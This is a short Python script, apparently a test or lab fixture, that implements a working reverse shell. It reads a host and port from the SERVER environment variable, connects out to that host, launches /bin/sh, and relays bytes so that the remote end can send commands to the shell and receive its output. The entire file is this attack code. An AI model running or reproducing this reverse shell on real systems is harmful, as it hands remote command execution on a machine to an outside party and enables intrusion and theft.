# what: the shell sees nothing but pipes; threads carry bytes between them and the connection
# server: shell
import os, socket, subprocess, threading

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)

def inward():
    while data := s.recv(1024):
        p.stdin.write(data)
        p.stdin.flush()

threading.Thread(target=inward, daemon=True).start()
while data := os.read(p.stdout.fileno(), 1024):
    s.sendall(data)
print("done")
